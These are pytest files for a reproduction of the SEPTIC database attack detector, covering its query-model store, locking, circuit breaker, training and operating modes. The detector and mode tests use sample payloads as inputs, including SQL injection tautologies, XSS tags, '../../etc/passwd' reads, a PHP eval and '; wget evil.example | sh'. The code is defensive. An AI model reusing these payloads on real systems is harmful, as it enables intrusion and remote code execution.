        store = QMStore()
        qid, _ = qid_for("SELECT a FROM t")
        assert store.get(qid) is None

    def test_models_for_external(self):
        store = QMStore()
        qid1, m1 = qid_for("SELECT a FROM t WHERE b = 1", external="site")
        qid2, m2 = qid_for("SELECT a FROM t", external="site")
        qid3, m3 = qid_for("SELECT c FROM u", external="other")
        store.put(qid1, m1)
        store.put(qid2, m2)
        store.put(qid3, m3)
        assert sorted(store.models_for_external("site"), key=id) == \
            sorted([m1, m2], key=id)
        assert store.models_for_external("missing") == []
        assert store.models_for_external(None) == []

    def test_clear(self):
        store = QMStore()
        qid, model = qid_for("SELECT 1 FROM t")
        store.put(qid, model)
        store.clear()
        assert len(store) == 0
        assert store.models_for_external("x") == []

    def test_ids_sorted(self):
        store = QMStore()
        for sql in ("SELECT a FROM t", "SELECT a, b FROM t"):
            qid, model = qid_for(sql)
            store.put(qid, model)
        assert store.ids() == sorted(store.ids())


class TestPersistence(object):
    def test_save_load_roundtrip(self, tmp_path):
        path = str(tmp_path / "models.json")
        store = QMStore(path=path)
        qid1, m1 = qid_for("SELECT a FROM t WHERE b = 'x'", external="s1")
        qid2, m2 = qid_for("INSERT INTO t (a) VALUES (1)")
        store.put(qid1, m1)
        store.put(qid2, m2)
        store.save()

        fresh = QMStore(path=path)
        assert fresh.load() == 2
        assert fresh.get(qid1) == m1
        assert fresh.get(qid2) == m2
        assert fresh.models_for_external("s1") == [m1]

    def test_load_missing_file_is_empty(self, tmp_path):
        store = QMStore(path=str(tmp_path / "absent.json"))
        assert store.load() == 0
        assert len(store) == 0

    def test_save_explicit_path(self, tmp_path):
        store = QMStore()
        qid, model = qid_for("SELECT 1 FROM t")
        store.put(qid, model)
        target = str(tmp_path / "out.json")
        assert store.save(target) == target
        assert os.path.exists(target)

    def test_save_without_path_raises(self):
        import pytest

        with pytest.raises(ValueError):
            QMStore().save()
        with pytest.raises(ValueError):
            QMStore().load()

    def test_save_is_atomic_no_tmp_left(self, tmp_path):
        path = str(tmp_path / "models.json")
        store = QMStore(path=path)
        qid, model = qid_for("SELECT 1 FROM t")
        store.put(qid, model)
        store.save()
        assert not os.path.exists(path + ".tmp")
