"""Tests for the attack detector (two-step SQLI + stored dispatch)."""

from repro.core.detector import AttackDetector, AttackType
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def qs_of(sql):
    return QueryStructure.from_stack(validate(parse_one(sql)))


def qm_of(sql):
    return QueryModel.from_structure(qs_of(sql))


TICKET = "SELECT * FROM tickets WHERE reservID = '%s' AND creditCard = %s"


class TestSqliDetection(object):
    def setup_method(self):
        self.detector = AttackDetector()
        self.model = qm_of(TICKET % ("ID34FG", "1234"))

    def test_benign_matches(self):
        detection = self.detector.detect_sqli(
            qs_of(TICKET % ("OTHER", "42")), self.model
        )
        assert not detection.is_attack
        assert not detection

    def test_structural_attack_step1(self):
        # Figure 3: the '-- payload removed the second condition
        attack = qs_of("SELECT * FROM tickets WHERE reservID = 'ID34FG'")
        detection = self.detector.detect_sqli(attack, self.model)
        assert detection.is_attack
        assert detection.step == 1
        assert detection.kind_label == "structural"
        assert "node count" in detection.detail

    def test_mimicry_attack_step2(self):
        # Figure 4: same node count, INT where a FIELD should be
        attack = qs_of(
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1"
        )
        detection = self.detector.detect_sqli(attack, self.model)
        assert detection.is_attack
        assert detection.step == 2
        assert detection.kind_label == "syntactical"
        assert detection.attack_type == AttackType.SQLI

    def test_element_value_mismatch_step2(self):
        # same shape, different operator
        model = qm_of("SELECT * FROM t WHERE a = 1")
        attack = qs_of("SELECT * FROM t WHERE a > 1")
        detection = self.detector.detect_sqli(attack, model)
        assert detection.is_attack and detection.step == 2

    def test_data_type_change_detected(self):
        model = qm_of("SELECT * FROM t WHERE a = 1")
        attack = qs_of("SELECT * FROM t WHERE a = 'one'")
        detection = self.detector.detect_sqli(attack, model)
        assert detection.is_attack and detection.step == 2

    def test_data_value_change_allowed(self):
        model = qm_of("SELECT * FROM t WHERE a = 1")
        benign = qs_of("SELECT * FROM t WHERE a = 777")
        assert not self.detector.detect_sqli(benign, model)

    def test_table_change_detected(self):
        model = qm_of("SELECT * FROM t WHERE a = 1")
        attack = qs_of("SELECT * FROM users WHERE a = 1")
        assert self.detector.detect_sqli(attack, model).is_attack

    def test_union_added_detected(self):
        attack = qs_of(
            TICKET % ("x", "0") + " UNION SELECT 1, 2, 3 FROM tickets"
        )
        assert self.detector.detect_sqli(attack, self.model).step == 1

    def test_matches_any(self):
        models = [qm_of("SELECT a FROM t"), qm_of("SELECT a, b FROM t")]
        assert self.detector.matches_any(qs_of("SELECT a FROM t"), models)
        assert not self.detector.matches_any(
            qs_of("SELECT a, b, c FROM t"), models
        )


class TestStoredDetection(object):
    def setup_method(self):
        self.detector = AttackDetector()

    def test_xss_in_insert(self):
        qs = qs_of(
            "INSERT INTO t (c) VALUES ('<script>alert(1)</script>')"
        )
        detection = self.detector.detect_stored(qs)
        assert detection.is_attack
        assert detection.attack_type == "STORED_XSS"
        assert detection.plugin == "StoredXSSPlugin"

    def test_xss_in_update(self):
        qs = qs_of("UPDATE t SET c = '<img src=x onerror=alert(1)>'")
        assert self.detector.detect_stored(qs).is_attack

    def test_select_not_inspected(self):
        qs = qs_of("SELECT * FROM t WHERE c = '<script>x</script>'")
        assert not self.detector.detect_stored(qs)

    def test_delete_not_inspected(self):
        qs = qs_of("DELETE FROM t WHERE c = '<script>x</script>'")
        assert not self.detector.detect_stored(qs)

    def test_benign_insert(self):
        qs = qs_of("INSERT INTO t (a, b) VALUES ('hello world', 42)")
        assert not self.detector.detect_stored(qs)

    def test_non_string_data_ignored(self):
        qs = qs_of("INSERT INTO t (a) VALUES (123456)")
        assert not self.detector.detect_stored(qs)

    def test_rfi_detected(self):
        qs = qs_of(
            "INSERT INTO t (c) VALUES ('http://evil.example/x.php')"
        )
        assert self.detector.detect_stored(qs).attack_type == "STORED_RFI"

    def test_lfi_detected(self):
        qs = qs_of("INSERT INTO t (c) VALUES ('../../etc/passwd')")
        assert self.detector.detect_stored(qs).attack_type == "STORED_LFI"

    def test_osci_detected(self):
        qs = qs_of(
            "INSERT INTO t (c) VALUES ('; wget evil.example | sh')"
        )
        assert self.detector.detect_stored(qs).attack_type == "STORED_OSCI"

    def test_ambiguous_payload_first_plugin_wins(self):
        # "; cat /etc/passwd" is both OSCI and LFI; the plugin order is
        # deterministic, so the LFI plugin (earlier in the list) reports.
        qs = qs_of("INSERT INTO t (c) VALUES ('; cat /etc/passwd')")
        assert self.detector.detect_stored(qs).attack_type == "STORED_LFI"

    def test_rce_detected(self):
        qs = qs_of("INSERT INTO t (c) VALUES ('<?php eval($x); ?>')")
        # XSS plugin runs first but an HTML parser sees no script; the
        # RCE plugin confirms.
        assert self.detector.detect_stored(qs).attack_type == "STORED_RCE"

    def test_custom_plugin_list(self):
        detector = AttackDetector(plugins=[])
        qs = qs_of("INSERT INTO t (c) VALUES ('<script>x</script>')")
        assert not detector.detect_stored(qs)
