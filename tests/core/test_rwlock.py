"""Unit tests for the reader–writer lock the engine's lock plans use."""

import threading
import time

from repro.core.resilience import RWLock, make_lock, make_rlock


def _spin_until(predicate, timeout=5.0):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return True
        time.sleep(0.001)
    return False


class TestReaderSharing(object):
    def test_readers_share(self):
        lock = RWLock()
        lock.acquire_read()
        lock.acquire_read()
        state = lock.state_dict()
        assert state["readers"] == 2
        assert state["contended"] == 0
        lock.release_read()
        lock.release_read()
        assert lock.state_dict()["readers"] == 0

    def test_counters_are_exact(self):
        lock = RWLock()
        for _ in range(3):
            lock.acquire_read()
            lock.release_read()
        lock.acquire_write()
        lock.release_write()
        assert lock.read_acquires == 3
        assert lock.write_acquires == 1

    def test_mode_dispatch(self):
        lock = RWLock()
        lock.acquire(True)
        assert lock.state_dict()["readers"] == 1
        lock.release(True)
        lock.acquire(False)
        assert lock.state_dict()["writer"]
        lock.release(False)


class TestWriterExclusion(object):
    def test_writer_blocks_reader(self):
        lock = RWLock()
        lock.acquire_write()
        got = []

        def reader():
            lock.acquire_read()
            got.append("read")
            lock.release_read()

        thread = threading.Thread(target=reader)
        thread.start()
        assert _spin_until(lambda: lock.contended >= 1)
        assert got == []
        lock.release_write()
        thread.join(timeout=5)
        assert got == ["read"]

    def test_reader_blocks_writer(self):
        lock = RWLock()
        lock.acquire_read()
        got = []

        def writer():
            lock.acquire_write()
            got.append("write")
            lock.release_write()

        thread = threading.Thread(target=writer)
        thread.start()
        assert _spin_until(
            lambda: lock.state_dict()["writers_waiting"] == 1
        )
        assert got == []
        lock.release_read()
        thread.join(timeout=5)
        assert got == ["write"]

    def test_waiting_writer_blocks_new_readers(self):
        # writer preference: with a writer queued, a late reader must
        # wait behind it — a SELECT stream cannot starve an UPDATE
        lock = RWLock()
        lock.acquire_read()
        order = []

        def writer():
            lock.acquire_write()
            order.append("write")
            lock.release_write()

        def late_reader():
            lock.acquire_read()
            order.append("read")
            lock.release_read()

        writer_thread = threading.Thread(target=writer)
        writer_thread.start()
        assert _spin_until(
            lambda: lock.state_dict()["writers_waiting"] == 1
        )
        reader_thread = threading.Thread(target=late_reader)
        reader_thread.start()
        assert _spin_until(lambda: lock.contended >= 2)
        assert order == []
        lock.release_read()
        writer_thread.join(timeout=5)
        reader_thread.join(timeout=5)
        assert order[0] == "write"
        assert sorted(order) == ["read", "write"]


class TestFactories(object):
    def test_make_lock_is_a_mutex(self):
        lock = make_lock()
        assert lock.acquire(blocking=False)
        lock.release()

    def test_make_rlock_is_reentrant(self):
        lock = make_rlock()
        with lock:
            with lock:
                pass
