"""Concurrency storm: four sessions hammering one SEPTIC instance while
the model store is flaky.

The exact-counter assertions are the point: the breaker's single-lock
state machine and SepticStats' locked bumps must make the incident
arithmetic deterministic even though thread interleaving is not.  The
design pins the nondeterminism down:

* threshold=1 — the very first fault trips the breaker, so *which*
  thread faults first does not matter;
* cooldown (40) > total storm queries (32) — the breaker cannot reach
  HALF_OPEN mid-storm, so faults 2 and 3 only extend the cooldown and
  ``trips`` stays exactly 1;
* flaky ``store.put`` with fails=3 — exactly three put attempts fail
  globally, whichever threads they land on, and each failed put leaves
  its query unknown for exactly one extra round.
"""

import threading

from repro import faults
from repro.core.logger import SepticLogger
from repro.core.resilience import BreakerState, CircuitBreaker, FailPolicy
from repro.core.septic import Mode, Septic
from repro.faults import FaultKind, FaultPlan
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

from tests.conftest import TICKETS_SCHEMA, TICKET_QUERY

THREADS = 4
ROUNDS = 8
COOLDOWN = 40  # > THREADS * ROUNDS: the breaker stays OPEN all storm
FAILS = 3

#: one structurally distinct query per thread (distinct QMs to learn)
SHAPES = (
    "SELECT id FROM tickets",
    "SELECT reservID FROM tickets",
    "SELECT creditCard FROM tickets",
    "SELECT id, reservID FROM tickets",
)


def test_storm_counters_are_exact():
    breaker = CircuitBreaker(threshold=1, cooldown=COOLDOWN)
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False),
                    fail_policy=FailPolicy.OPEN, breaker=breaker)
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    trainer = Connection(database)
    trainer.query(TICKET_QUERY % ("ID34FG", "1234"))
    septic.mode = Mode.PREVENTION
    base = septic.stats.as_dict()  # training/seed traffic is not ours

    plan = FaultPlan()
    plan.inject("store.put", FaultKind.FLAKY, fails=FAILS)

    errors = []

    def session(shape):
        conn = Connection(database)
        for _ in range(ROUNDS):
            outcome = conn.query(shape)
            if not outcome.ok:
                errors.append(outcome.error)

    with faults.armed(plan):
        threads = [
            threading.Thread(target=session, args=(shape,))
            for shape in SHAPES
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        # -- phase 1: the storm's arithmetic --------------------------------
        stats = septic.stats.as_dict()
        delta = {key: stats[key] - base[key] for key in stats}
        # fail_open policy + open breaker: every query was served
        assert errors == []
        assert delta["queries_processed"] == THREADS * ROUNDS
        # exactly FAILS puts failed, each retried to success next round
        assert delta["internal_faults"] == FAILS
        assert delta["fail_open_passes"] == FAILS
        assert delta["fail_closed_drops"] == 0
        assert delta["unknown_queries"] == len(SHAPES) + FAILS
        assert delta["models_learned"] == len(SHAPES)
        # one incident, one trip — regardless of interleaving
        assert stats["breaker_trips"] == 1
        assert breaker.state == BreakerState.OPEN
        assert septic.effective_mode == Mode.DETECTION
        assert plan.injected == FAILS

        # -- phase 2: deterministic recovery --------------------------------
        drain = Connection(database)
        for _ in range(COOLDOWN + 1):
            assert drain.query(TICKET_QUERY % ("ID34FG", "1234")).ok
            if breaker.state == BreakerState.CLOSED:
                break
        stats = septic.stats.as_dict()
        delta = {key: stats[key] - base[key] for key in stats}
        assert breaker.state == BreakerState.CLOSED
        assert delta["breaker_trips"] == 1
        assert delta["breaker_resets"] == 1
        assert septic.effective_mode == Mode.PREVENTION
        # recovery added no faults and learned nothing new
        assert delta["internal_faults"] == FAILS
        assert delta["models_learned"] == len(SHAPES)


def test_storm_under_fail_closed_still_counts_one_trip():
    """Same storm, fail-closed: only the very first fault (breaker still
    closed) drops its query; the open breaker then forces availability."""
    breaker = CircuitBreaker(threshold=1, cooldown=COOLDOWN)
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False),
                    fail_policy=FailPolicy.CLOSED, breaker=breaker)
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    septic.mode = Mode.PREVENTION

    plan = FaultPlan()
    plan.inject("store.put", FaultKind.FLAKY, fails=FAILS)
    blocked = []
    lock = threading.Lock()

    def session(shape):
        conn = Connection(database)
        for _ in range(ROUNDS):
            outcome = conn.query(shape)
            if not outcome.ok:
                with lock:
                    blocked.append(str(outcome.error))

    with faults.armed(plan):
        threads = [
            threading.Thread(target=session, args=(shape,))
            for shape in SHAPES
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        stats = septic.stats.as_dict()
        # fault 1 trips the breaker *before* the policy check, so even
        # fail-closed drops nothing: the open circuit overrides it
        assert stats["internal_faults"] == FAILS
        assert stats["breaker_trips"] == 1
        assert stats["fail_closed_drops"] == 0
        assert stats["fail_open_passes"] == FAILS
        assert blocked == []
