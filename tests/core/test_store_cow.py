"""Copy-on-write read views in the QM store.

The SEPTIC hot path (``get``/``models_for_external``) reads an immutable
snapshot swapped in atomically after every mutation, so detection never
takes the store lock.  These tests pin the view semantics: swaps are
counted, old views are frozen, and reads stay consistent while writers
churn.
"""

import threading

from repro.core.id_generator import IdGenerator, QueryId
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.store import QMStore
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def model_of(sql):
    qs = QueryStructure.from_stack(validate(parse_one(sql)))
    return QueryModel.from_structure(qs)


def qid_for(sql, external=None):
    model = model_of(sql)
    return QueryId(IdGenerator().internal_id(model), external), model


class TestViewSwaps(object):
    def test_put_publishes_a_new_view(self):
        store = QMStore()
        before = store.snapshot_swaps
        qid, model = qid_for("SELECT a FROM t")
        store.put(qid, model)
        assert store.snapshot_swaps == before + 1
        assert store.get(qid) == model

    def test_duplicate_put_does_not_swap(self):
        store = QMStore()
        qid, model = qid_for("SELECT a FROM t")
        store.put(qid, model)
        swaps = store.snapshot_swaps
        assert not store.put(qid, model)
        assert store.snapshot_swaps == swaps

    def test_clear_publishes_empty_view(self):
        store = QMStore()
        qid, model = qid_for("SELECT a FROM t")
        store.put(qid, model)
        store.clear()
        assert store.get(qid) is None
        assert store.ids() == []

    def test_old_views_are_frozen(self):
        store = QMStore()
        qid1, m1 = qid_for("SELECT a FROM t")
        store.put(qid1, m1)
        old_view = store._reads
        qid2, m2 = qid_for("SELECT b FROM u")
        store.put(qid2, m2)
        assert qid2.internal not in old_view.models
        assert qid2.internal in store._reads.models

    def test_models_for_external_reads_the_view(self):
        store = QMStore()
        qid1, m1 = qid_for("SELECT a FROM t WHERE b = 1", external="site")
        qid2, m2 = qid_for("SELECT a FROM t", external="site")
        store.put(qid1, m1)
        store.put(qid2, m2)
        found = store.models_for_external("site")
        assert sorted(len(m) for m in found) == sorted(
            [len(m1), len(m2)]
        )


class TestConcurrentReaders(object):
    def test_reads_stay_consistent_under_writer_churn(self):
        store = QMStore()
        qid, model = qid_for("SELECT a FROM t WHERE b = 1")
        store.put(qid, model)
        errors = []
        stop = threading.Event()

        def reader():
            while not stop.is_set():
                got = store.get(qid)
                if got is None or got != model:
                    errors.append("inconsistent read")
                    return

        def writer():
            for i in range(200):
                extra_qid, extra = qid_for(
                    "SELECT c%d FROM filler WHERE d = %d" % (i, i)
                )
                store.put(extra_qid, extra)

        readers = [threading.Thread(target=reader) for _ in range(3)]
        for thread in readers:
            thread.start()
        writer_thread = threading.Thread(target=writer)
        writer_thread.start()
        writer_thread.join(timeout=30)
        stop.set()
        for thread in readers:
            thread.join(timeout=10)
        assert errors == []
        assert store.get(qid) == model
        assert len(store) == 201
