"""Tests for the crawler-style training module."""

from repro.core.septic import Mode, Septic
from repro.core.training import SepticTrainer
from repro.apps.waspmon import WaspMon
from repro.sqldb.engine import Database


def make_stack():
    septic = Septic(mode=Mode.TRAINING)
    database = Database(septic=septic)
    app = WaspMon(database)
    return septic, app


class TestCrawl(object):
    def test_crawl_covers_every_form(self):
        septic, app = make_stack()
        trainer = SepticTrainer(app, septic)
        crawled = {(r.method, r.path) for r in trainer.crawl()}
        for form in app.forms:
            assert (form.method, form.path) in crawled

    def test_crawl_includes_parameterless_gets(self):
        septic, app = make_stack()
        trainer = SepticTrainer(app, septic)
        paths = {r.path for r in trainer.crawl() if not r.params}
        assert "/" in paths
        assert "/feedback/list" in paths

    def test_crawl_uses_benign_samples(self):
        septic, app = make_stack()
        trainer = SepticTrainer(app, septic)
        login = next(r for r in trainer.crawl() if r.path == "/login")
        assert login.params == {"username": "alice", "password": "alicepw"}


class TestTrain(object):
    def test_training_learns_models(self):
        septic, app = make_stack()
        report = SepticTrainer(app, septic).train()
        assert report.models_learned > 10
        assert report.failures == []

    def test_second_pass_learns_nothing_new(self):
        septic, app = make_stack()
        trainer = SepticTrainer(app, septic)
        trainer.train()
        assert trainer.train().models_learned == 0

    def test_set_prevention(self):
        septic, app = make_stack()
        SepticTrainer(app, septic).train(set_prevention=True)
        assert septic.mode == Mode.PREVENTION

    def test_restores_previous_mode(self):
        septic, app = make_stack()
        trainer = SepticTrainer(app, septic)
        trainer.train()
        septic.mode = Mode.DETECTION
        trainer.train()
        assert septic.mode == Mode.DETECTION

    def test_trained_app_replays_clean_in_prevention(self):
        septic, app = make_stack()
        SepticTrainer(app, septic).train(passes=1, set_prevention=True)
        for request in app.benign_requests():
            response = app.handle(request)
            assert response.status < 500, (request, response.body)
        assert septic.stats.attacks_detected == 0


class TestTrainWithRequests(object):
    def test_workload_based_training(self):
        from repro.apps import ZeroCMS

        septic = Septic(mode=Mode.TRAINING)
        app = ZeroCMS(Database(septic=septic))
        trainer = SepticTrainer(app, septic)
        report = trainer.train_with_requests(
            app.workload_requests(), set_prevention=True
        )
        assert report.models_learned > 5
        assert septic.mode == Mode.PREVENTION
        for request in app.workload_requests():
            assert app.handle(request).status == 200
        assert septic.stats.attacks_detected == 0

    def test_restores_mode_like_crawler_variant(self):
        from repro.apps import ZeroCMS

        septic = Septic(mode=Mode.TRAINING)
        app = ZeroCMS(Database(septic=septic))
        trainer = SepticTrainer(app, septic)
        septic.mode = Mode.DETECTION
        trainer.train_with_requests(app.workload_requests())
        assert septic.mode == Mode.DETECTION
