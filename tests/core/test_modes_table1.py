"""Table I — operation modes and the actions SEPTIC takes.

The paper's Table I::

              | Query model      | Attack detection      | Query
              | T   I   Log      | SQLI  StoredInj  Log  | Drop  Exec
   Training   | x       x        |                       |        x
   Prevention |     x   x        | x     x          x    | x
   Detection  |     x   x        | x     x          x    |        x

Each test pins one cell of that matrix.
"""

import pytest

from repro.core.logger import EventKind, SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

SCHEMA = """
CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, name VARCHAR(40),
                val INT);
INSERT INTO t (name, val) VALUES ('a', 1);
"""

TRAINED = "/* septic:site:1 */ SELECT * FROM t WHERE name = '%s' AND val = %s"
SQLI_ATTACK = TRAINED % ("a' OR 1=1-- ", "0")
STORED_ATTACK = (
    "/* septic:site:2 */ INSERT INTO t (name, val) "
    "VALUES ('<script>alert(1)</script>', 1)"
)
TRAINED_INSERT = "/* septic:site:2 */ INSERT INTO t (name, val) " \
                 "VALUES ('%s', %s)"


@pytest.fixture
def stack():
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=True))
    database = Database(septic=septic)
    database.seed(SCHEMA)
    connection = Connection(database)
    return septic, database, connection


def train(septic, connection):
    connection.query(TRAINED % ("a", "1"))
    connection.query(TRAINED_INSERT % ("b", "2"))


class TestTrainingMode(object):
    def test_learns_and_logs_models(self, stack):
        septic, _, connection = stack
        before = len(septic.store)
        train(septic, connection)
        assert len(septic.store) == before + 2       # QM column: T
        assert septic.logger.new_models               # Log column

    def test_no_detection(self, stack):
        septic, _, connection = stack
        train(septic, connection)
        outcome = connection.query(SQLI_ATTACK)
        assert outcome.ok                             # no Drop
        assert septic.stats.attacks_detected == 0     # no detection

    def test_query_executes(self, stack):
        septic, database, connection = stack
        outcome = connection.query(TRAINED % ("a", "1"))
        assert outcome.ok and len(outcome.rows) == 1  # Exec column

    def test_duplicate_query_single_model(self, stack):
        septic, _, connection = stack
        train(septic, connection)
        count = len(septic.store)
        train(septic, connection)                     # same queries again
        assert len(septic.store) == count


class TestPreventionMode(object):
    def test_sqli_detected_logged_dropped(self, stack):
        septic, _, connection = stack
        train(septic, connection)
        septic.mode = Mode.PREVENTION
        outcome = connection.query(SQLI_ATTACK)
        assert not outcome.ok                         # Drop column
        assert septic.stats.attacks_detected == 1     # SQLI column
        assert septic.logger.attacks                  # Log column
        assert septic.logger.drops

    def test_stored_injection_detected_dropped(self, stack):
        septic, database, connection = stack
        train(septic, connection)
        septic.mode = Mode.PREVENTION
        outcome = connection.query(STORED_ATTACK)
        assert not outcome.ok                         # StoredInj + Drop
        rows = database.table("t").rows
        assert not any("script" in (r["name"] or "") for r in rows)

    def test_dropped_query_not_executed(self, stack):
        septic, database, connection = stack
        train(septic, connection)
        septic.mode = Mode.PREVENTION
        executed_before = database.statements_executed
        connection.query(SQLI_ATTACK)
        assert database.statements_executed == executed_before

    def test_benign_executes(self, stack):
        septic, _, connection = stack
        train(septic, connection)
        septic.mode = Mode.PREVENTION
        assert connection.query(TRAINED % ("zzz", "9")).ok

    def test_incremental_learning(self, stack):
        septic, _, connection = stack
        train(septic, connection)
        septic.mode = Mode.PREVENTION
        before = len(septic.store)
        outcome = connection.query(
            "/* septic:site:99 */ SELECT COUNT(*) FROM t"
        )
        assert outcome.ok
        assert len(septic.store) == before + 1        # QM column: I
        assert septic.logger.new_models[-1].detail == "incremental"


class TestDetectionMode(object):
    def test_attack_logged_but_executed(self, stack):
        septic, database, connection = stack
        train(septic, connection)
        septic.mode = Mode.DETECTION
        outcome = connection.query(SQLI_ATTACK)
        assert outcome.ok                             # Exec column
        assert len(outcome.rows) == 2                 # tautology dumped all
        assert septic.stats.attacks_detected == 1     # SQLI + Log
        assert septic.stats.queries_dropped == 0      # no Drop

    def test_stored_attack_executes_but_logged(self, stack):
        septic, database, connection = stack
        train(septic, connection)
        septic.mode = Mode.DETECTION
        outcome = connection.query(STORED_ATTACK)
        assert outcome.ok
        assert septic.logger.attacks

    def test_incremental_learning_also_active(self, stack):
        septic, _, connection = stack
        train(septic, connection)
        septic.mode = Mode.DETECTION
        before = len(septic.store)
        connection.query("/* septic:site:42 */ SELECT MAX(val) FROM t")
        assert len(septic.store) == before + 1


class TestModeManagement(object):
    def test_invalid_mode_rejected(self, stack):
        septic, _, _ = stack
        with pytest.raises(ValueError):
            septic.mode = "PARANOID"

    def test_mode_change_logged(self, stack):
        septic, _, _ = stack
        septic.mode = Mode.PREVENTION
        changes = septic.logger.by_kind(EventKind.MODE_CHANGED)
        assert changes and "PREVENTION" in changes[-1].detail
