"""Failure injection: broken collaborators must not corrupt protection.

Covers the availability/security trade-offs: a crashing hook, a broken
log sink, a corrupted model store.
"""

import pytest

from repro.core.logger import EventKind, SepticLogger
from repro.core.septic import Mode, Septic
from repro.core.store import QMStore
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from tests.conftest import TICKETS_SCHEMA


class _CrashingSeptic(object):
    """A hook that dies on every query."""

    def process_query(self, context):
        raise RuntimeError("hook crashed")


class TestHookCrash(object):
    def test_fail_closed_by_default(self):
        database = Database(septic=_CrashingSeptic())
        database.septic = None  # seed without the broken hook
        database.seed(TICKETS_SCHEMA)
        database.septic = _CrashingSeptic()
        conn = Connection(database)
        outcome = conn.query("SELECT * FROM tickets")
        assert not outcome.ok
        assert database.statements_executed == 0 or \
            "tickets" in database.tables  # the SELECT itself did not run

    def test_fail_open_lets_queries_through(self):
        database = Database(septic=None, septic_fail_open=True)
        database.seed(TICKETS_SCHEMA)
        database.septic = _CrashingSeptic()
        conn = Connection(database)
        outcome = conn.query("SELECT COUNT(*) FROM tickets")
        assert outcome.ok
        assert outcome.result_set.scalar() == 3

    def test_fail_open_does_not_swallow_blocks(self):
        """QueryBlocked is a verdict, not a crash: it must propagate even
        under the fail-open policy."""
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic, septic_fail_open=True)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        conn.query("/* septic:s:1 */ SELECT * FROM tickets WHERE id = 1")
        septic.mode = Mode.PREVENTION
        outcome = conn.query(
            "/* septic:s:1 */ SELECT * FROM tickets WHERE id = 1 OR 1=1"
        )
        assert not outcome.ok
        assert "SEPTIC" in str(outcome.error)


class TestBrokenSink(object):
    def test_sink_exception_disables_sink_not_logging(self):
        calls = []

        def bad_sink(line):
            calls.append(line)
            raise IOError("display unplugged")

        logger = SepticLogger(verbose=True, sink=bad_sink)
        logger.log(EventKind.QM_CREATED)
        logger.log(EventKind.ATTACK_DETECTED)
        assert len(calls) == 1          # sink dropped after first failure
        assert len(logger.events) == 2  # register unaffected

    def test_protection_survives_broken_sink(self):
        def bad_sink(line):
            raise IOError("boom")

        septic = Septic(mode=Mode.TRAINING,
                        logger=SepticLogger(verbose=True, sink=bad_sink))
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        conn.query("/* septic:s:1 */ SELECT * FROM tickets WHERE id = 1")
        septic.mode = Mode.PREVENTION
        outcome = conn.query(
            "/* septic:s:1 */ SELECT * FROM tickets WHERE id = 1 OR 1=1"
        )
        assert not outcome.ok


class TestCorruptedStore(object):
    def test_corrupted_json_raises_cleanly(self, tmp_path):
        path = tmp_path / "models.json"
        path.write_text("{ this is not json")
        store = QMStore(path=str(path))
        with pytest.raises(ValueError) as err:
            store.load()
        assert "corrupted" in str(err.value)

    def test_wrong_layout_raises_cleanly(self, tmp_path):
        path = tmp_path / "models.json"
        path.write_text('{"nothing": "here"}')
        store = QMStore(path=str(path))
        with pytest.raises(ValueError) as err:
            store.load()
        assert "layout" in str(err.value)

    def test_failed_load_preserves_previous_contents(self, tmp_path):
        from repro.core.id_generator import IdGenerator
        from repro.core.query_model import QueryModel
        from repro.core.query_structure import QueryStructure
        from repro.sqldb.parser import parse_one
        from repro.sqldb.validator import validate

        store = QMStore()
        qm = QueryModel.from_structure(
            QueryStructure.from_stack(validate(parse_one("SELECT 1")))
        )
        store.put(IdGenerator().generate([], qm), qm)
        bad = tmp_path / "bad.json"
        bad.write_text("garbage")
        with pytest.raises(ValueError):
            store.load(str(bad))
        assert len(store) == 1  # untouched
