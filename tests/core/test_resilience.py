"""Unit tests for the resilience layer: virtual clock, watchdog,
circuit breaker, fail policies and QM-store integrity/recovery."""

import threading

import pytest

from repro import faults
from repro.core.id_generator import QueryId
from repro.core.logger import EventKind, SepticLogger
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.resilience import (
    BreakerState,
    CircuitBreaker,
    FailPolicy,
    VirtualClock,
    Watchdog,
    WatchdogTimeout,
)
from repro.core.septic import Mode, Septic
from repro.core.store import QMStore
from repro.faults import FaultKind, FaultPlan
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import QueryBlocked
from repro.sqldb.items import Item

from tests.conftest import TICKETS_SCHEMA, TICKET_QUERY


def _model(value="abc"):
    structure = QueryStructure([
        Item("SELECT", "SELECT"), Item("FIELD", "id"),
        Item("TABLE", "tickets"), Item("DATA_STRING", value),
    ])
    return QueryModel.from_structure(structure)


def _qid(internal="deadbeef", external=None):
    return QueryId(internal, external)


class TestVirtualClock(object):
    def test_advances_only_explicitly(self):
        clock = VirtualClock()
        assert clock.now() == 0.0
        clock.advance(3.0)
        assert clock.now() == 3.0

    def test_thread_local(self):
        clock = VirtualClock()
        clock.advance(10.0)
        seen = []

        def other():
            seen.append(clock.now())
            clock.advance(1.0)
            seen.append(clock.now())

        thread = threading.Thread(target=other)
        thread.start()
        thread.join()
        # the other thread started from zero and never saw our 10s
        assert seen == [0.0, 1.0]
        assert clock.now() == 10.0


class TestWatchdog(object):
    def test_within_budget_is_silent(self):
        clock = VirtualClock()
        dog = Watchdog(5.0, clock=clock)
        clock.advance(5.0)
        dog.check()  # exactly at the deadline: still fine

    def test_exceeding_budget_raises(self):
        clock = VirtualClock()
        dog = Watchdog(5.0, clock=clock)
        clock.advance(5.5)
